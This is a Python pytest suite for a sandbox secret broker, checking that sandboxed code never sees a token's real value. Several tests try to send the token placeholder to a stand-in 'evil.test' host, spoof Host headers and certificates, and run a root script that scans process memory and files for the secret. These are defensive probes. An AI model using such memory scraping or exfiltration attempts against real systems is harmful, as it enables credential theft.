# SPDX-License-Identifier: Apache-2.0
"""Brokered secrets (SEC): a sandbox uses a value that it can never read, in a test world."""

import base64
import json
import os
import pathlib
import shutil
import subprocess
import tempfile
import uuid

import pytest

from lib import world
from lib.certs import Authority
from lib.daemon import Daemon
from lib.world import EVIL, GOOD, World

PORT = 8443
HOST = "api.allowed.test"
VALUE = f"brokered-{uuid.uuid4().hex}-value"
URL = f"https://{HOST}:{PORT}"
CURL = "curl -sS -m 30"


class Server:
    def __init__(self, outside, place, ca, name, address, port):
        cert, key = ca.issue(name, at=f"{name}-{port}-{uuid.uuid4().hex[:6]}")
        self.log = place / f"{name}-{port}-{uuid.uuid4().hex[:6]}.log"
        self.log.write_text("")
        config = {"address": address, "port": port, "cert": cert, "key": key, "log": str(self.log),
                  "value": VALUE, "root": str(place)}
        script = pathlib.Path(__file__).parents[1] / "lib/broker_server.py"
        self.process = subprocess.Popen(outside.within_world("/usr/bin/python3", str(script), json.dumps(config)),
                                        stdout=subprocess.PIPE, text=True)
        assert self.process.stdout.readline() == "ready\n"

    def seen(self):
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def last(self):
        return {k.lower(): v for k, v in self.seen()[-1]["headers"]}

    def stop(self):
        self.process.terminate()
        self.process.wait(30)


def make_repo(place):
    env = dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@b",
               GIT_COMMITTER_NAME="a", GIT_COMMITTER_EMAIL="a@b")
    run = lambda *w, **kw: subprocess.run(["git", *w], check=True, env=env, capture_output=True, **kw)  # noqa: E731
    work = place / "work"
    run("init", "-q", str(work))
    (work / "file").write_text("from the repository\n")
    run("add", ".", cwd=work)
    run("commit", "-qm", "one", cwd=work)
    run("clone", "-q", "--bare", str(work), str(place / "repo.git"))
    run("update-server-info", cwd=place / "repo.git")


@pytest.fixture(scope="module")
def net():
    place = pathlib.Path(tempfile.mkdtemp(prefix="cay-broker-", dir="/var/tmp"))
    place.chmod(0o755)
    servers = []
    try:
        ca = Authority(place)
        other = place / "other"
        other.mkdir()
        make_repo(place)
        with World() as outside:
            good = Server(outside, place, ca, HOST, GOOD, PORT)
            servers.append(good)
            evil = Server(outside, place, ca, "evil.test", EVIL, PORT)
            servers.append(evil)
            # Claims to be the bound host, with an untrusted certificate.
            liar = Server(outside, place, Authority(other), HOST, GOOD, PORT + 1)
            servers.append(liar)
            with Daemon(env={"CAY_DNS_UPSTREAM": world.DNS, "CAY_EGRESS_CA_FILE": ca.cert}) as daemon:
                outside.daemon, outside.good, outside.evil, outside.liar = daemon, good, evil, liar
                daemon.client.call("POST", "/v1/secrets", {"name": "TOKEN", "value": VALUE,
                                                           "hosts": [f"{HOST}:{PORT}", f"{HOST}:{PORT + 1}"]})
                yield outside
    finally:
        for server in servers:
            server.stop()
        shutil.rmtree(place)


@pytest.fixture(scope="module")
def box(net):
    network = {"mode": "restricted", "allow": ["*.allowed.test", "evil.test"]}
    with net.daemon.client.sandbox(network=network, timeout_sec=3600, secrets=[{"name": "TOKEN", "as": "broker"}]) as box:
        box.root("grep -q nameserver /etc/resolv.conf || echo nameserver 192.0.2.53 > /etc/resolv.conf")
        yield box


def test_the_sandbox_sees_a_placeholder(box):
    out = box.exec("echo $TOKEN").stdout
    assert out.startswith("cay-secret-") and VALUE not in out
    row = box.client.get(box.id)["secrets"][0]
    assert (row["as"], row["hosts"]) == ("broker", [f"{HOST}:{PORT}", f"{HOST}:{PORT + 1}"])


def test_curl(net, box):
    done = box.exec(f'{CURL} -H "Authorization: Bearer $TOKEN" {URL}/x?y=1').ok()
    assert net.good.last()["authorization"] == f"Bearer {VALUE}"
    assert net.good.seen()[-1]["path"] == "/x?y=1"
    assert VALUE not in done.stdout and json.loads(done.stdout)["headers"]["Host"] == f"{HOST}:{PORT}"


def test_python_requests(net, box):
    script = ("import os; from pip._vendor import requests; "
              f"r = requests.post('{URL}/p', headers={{'X-Token': os.environ['TOKEN']}}, data='a' * 100000, timeout=30); "
              "print(r.status_code, len(r.json()['body']))")
    assert box.exec(["/usr/bin/python3", "-c", script]).ok().stdout == "200 100000\n"
    assert net.good.last()["x-token"] == VALUE


def test_node_fetch(net, box):
    script = (f"const f = globalThis.fetch; const t = process.env.TOKEN; f('{URL}/n', {{headers: {{'X-Token': t}}}})"
              ".then(r => r.json()).then(j => console.log(j.headers['X-Token'].length))")
    assert box.exec(["node", "-e", script]).ok().stdout == f"{len(VALUE)}\n"
    assert net.good.last()["x-token"] == VALUE


def test_git(net, box):
    out = box.exec(f'cd /tmp && rm -rf cloned && git clone -q "https://user:$TOKEN@{HOST}:{PORT}/repo.git" cloned && '
                   "cat cloned/file").ok()
    assert out.stdout == "from the repository\n"


def test_streams_and_chunks(net, box):
    box.exec(f'head -c 300000 /dev/zero | tr "\\0" x | {CURL} -o /dev/null -T - -H "X-Token: $TOKEN" {URL}/up').ok()
    assert len(net.good.seen()[-1]["body"]) == 300000 and net.good.last()["x-token"] == VALUE


def test_sec_06_only_headers_only_bound_hosts(net, box):
    """In the path, the body, to another host, by another name, in plain text: never replaced."""
    box.exec(f'{CURL} -d "$TOKEN" "{URL}/path/$TOKEN?q=$TOKEN"').ok()
    last = net.good.seen()[-1]
    assert VALUE not in json.dumps(last) and "cay-secret-" in last["body"] and "cay-secret-" in last["path"]
    # Another allowed host: unchanged, end to end; its certificate is the real one, which we do not trust.
    out = box.exec(f'{CURL} -k -H "X-Token: $TOKEN" https://evil.test:{PORT}/').ok()
    assert "cay-secret-" in out.stdout and VALUE not in json.dumps(net.evil.seen())
    issuer = box.exec(f"echo | openssl s_client -connect evil.test:{PORT} -servername evil.test 2>/dev/null | "
                      "openssl x509 -noout -issuer").stdout
    assert "cay test authority" in issuer
    # The bound name on a connection to another host, and another host's name on a bound connection.
    before = len(net.evil.seen())
    box.exec(f'{CURL} -k -H "X-Token: $TOKEN" --connect-to {HOST}:{PORT}:evil.test:{PORT} {URL}/')
    assert VALUE not in json.dumps(net.evil.seen()) and len(net.evil.seen()) == before
    count = len(net.good.seen())
    out = box.exec(f'{CURL} -H "Host: evil.test" -H "X-Token: $TOKEN" {URL}/')
    assert "broker_refused" in out.stdout and len(net.good.seen()) == count


def test_a_false_host_gets_nothing(net, box):
    out = box.exec(f'{CURL} -k -H "X-Token: $TOKEN" https://{HOST}:{PORT + 1}/')
    assert "is not trusted" in out.stdout
    assert net.liar.seen() == []


def test_echo_does_not_show_it(net, box):
    out = box.exec(f'{CURL} -i -H "X-Token: $TOKEN" -H "Authorization: $TOKEN" {URL}/echo > /tmp/echo; cat /tmp/echo').ok()
    assert net.good.last()["x-token"] == VALUE
    assert "*" * len(VALUE) in out.stdout
    # Checks what arrived inside, not only what was printed: the file does not contain the value either.
    raw = box.client.raw("GET", f"/v1/sandboxes/{box.id}/files/raw?path=/tmp/echo")[2]
    assert VALUE.encode() not in raw and VALUE.encode().hex() not in raw.decode()
    assert base64.b64encode(VALUE.encode())[:30] not in raw
    out = box.exec(f'{CURL} -X TRACE -H "X-Token: $TOKEN" {URL}/').stdout
    assert "not passed on" in out


def test_sec_01_root_inside_finds_it_nowhere(net, box):
    """Environment, memory of all processes, files, the authority's key: none contains it."""
    box.exec(f'{CURL} -o /dev/null -H "X-Token: $TOKEN" {URL}/').ok()
    # Backwards, so that the search itself is not what is found.
    script = f"""
import glob, os, re
needle = bytes.fromhex({VALUE[::-1].encode().hex()!r})[::-1]
found = []
for maps in glob.glob('/proc/[0-9]*/maps'):
    pid = maps.split('/')[2]
    if pid == str(os.getpid()):
        continue
    for part in ('environ', 'cmdline'):
        try:
            if needle in open(f'/proc/{{pid}}/{{part}}', 'rb').read(): found.append((pid, part))
        except OSError: pass
    try:
        mem = open(f'/proc/{{pid}}/mem', 'rb', 0)
        for line in open(maps):
            m = re.match('([0-9a-f]+)-([0-9a-f]+) r', line)
            if not m: continue
            a, b = int(m[1], 16), int(m[2], 16)
            if b - a > 1 << 28: continue
            try:
                mem.seek(a)
                if needle in mem.read(b - a): found.append((pid, line.strip()))
            except (OSError, ValueError, OverflowError): pass
    except OSError: pass
for top in ('/etc', '/home', '/root', '/tmp', '/run', '/var', '/workspace', '/usr/local'):
    for d, _, names in os.walk(top):
        for n in names:
            p = os.path.join(d, n)
            try:
                if os.path.isfile(p) and not os.path.islink(p) and needle in open(p, 'rb').read(): found.append(p)
                if os.path.isfile(p) and 'cay' in n and b'PRIVATE' in open(p, 'rb').read(): found.append(p)
            except OSError: pass
print('found', found)
"""
    box.put("/tmp/look.py", script.encode())
    out = box.root(["/usr/bin/python3", "/tmp/look.py"], timeout_sec=120).ok().stdout
    box.root("rm /tmp/look.py")
    assert out.strip().endswith("found []"), out


SLOW = """
import socket, ssl, sys, time
host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), 20)
time.sleep(1.2)  # longer than an unknown protocol is listened to
s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (host.encode(), port))
print(s.recv(65536).decode())
"""


def test_slow_client_on_an_unusual_port(net, box):
    """The proxy waits for its first bytes, because the address was returned for a bound name."""
    before = len(net.liar.seen())
    out = box.exec(["/usr/bin/python3", "-c", SLOW, HOST, str(PORT + 1)]).ok().stdout
    assert "broker_unreachable" in out, out  # intercepted: this host's certificate is not trusted
    assert len(net.liar.seen()) == before


def test_full_network(net):
    with net.daemon.client.sandbox(network={"mode": "full"}, secrets=[{"name": "TOKEN", "as": "broker"}]) as box:
        box.root("grep -q nameserver /etc/resolv.conf || echo nameserver 192.0.2.53 > /etc/resolv.conf")
        box.exec(f'{CURL} -H "X-Token: $TOKEN" {URL}/full').ok()
        assert net.good.last()["x-token"] == VALUE and net.good.seen()[-1]["path"] == "/full"
        out = box.exec(["/usr/bin/python3", "-c", SLOW, HOST, str(PORT + 1)]).ok().stdout
        assert "broker_unreachable" in out, out


def test_ca_tricks(net, box):
    """The authority issues certificates only for bound and refused hosts, and its certificate cannot sign others."""
    cert = box.exec("cat /usr/local/share/ca-certificates/cay.crt").stdout
    assert "BEGIN CERTIFICATE" in cert and "PRIVATE" not in cert
    text = box.exec("openssl x509 -in /usr/local/share/ca-certificates/cay.crt -noout -text").stdout
    assert "CA:TRUE, pathlen:0" in text
    # An allowed name that is not bound is never answered with it.
    issuer = box.exec(f"echo | openssl s_client -connect www.allowed.test:{PORT} -servername www.allowed.test 2>/dev/null | "
                      "openssl x509 -noout -issuer").stdout
    assert "CN" in issuer and "cay sandbox" not in issuer


def test_rotation_and_removal_take_effect_at_once(net, box):
    client = box.client
    new = VALUE[::-1]
    client.call("POST", "/v1/secrets/TOKEN/rotate", {"value": new})
    try:
        box.exec(f'{CURL} -o /dev/null -H "X-Token: $TOKEN" {URL}/').ok()
        assert net.good.last()["x-token"] == new
    finally:
        client.call("POST", "/v1/secrets/TOKEN/rotate", {"value": VALUE})
    placeholder = box.exec("echo $TOKEN").stdout.strip()
    client.call("PATCH", f"/v1/sandboxes/{box.id}", {"secrets": []})
    try:
        box.exec(f'{CURL} -k -o /dev/null -H "X-Token: {placeholder}" {URL}/').ok()
        assert net.good.last()["x-token"] == placeholder
    finally:
        client.call("PATCH", f"/v1/sandboxes/{box.id}", {"secrets": [{"name": "TOKEN", "as": "broker"}]})


def test_the_placeholder_of_another_sandbox_is_useless(net, box):
    placeholder = box.exec("echo $TOKEN").stdout.strip()
    network = {"mode": "restricted", "allow": ["*.allowed.test"]}
    with box.client.sandbox(network=network, secrets=[{"name": "TOKEN", "as": "broker"}]) as other:
        other.root("grep -q nameserver /etc/resolv.conf || echo nameserver 192.0.2.53 > /etc/resolv.conf")
        other.exec(f'{CURL} -o /dev/null -H "X-Token: {placeholder}" {URL}/').ok()
        assert net.good.last()["x-token"] == placeholder
        other.exec(f'{CURL} -o /dev/null -H "X-Token: $TOKEN" {URL}/').ok()
        assert net.good.last()["x-token"] == VALUE


def test_brokering_continues_after_a_restart(net, box):
    net.daemon.kill("cayd")
    net.daemon.wait_ready()
    box.client = net.daemon.client
    box.exec(f'{CURL} -o /dev/null -H "X-Token: $TOKEN" {URL}/').ok()
    assert net.good.last()["x-token"] == VALUE
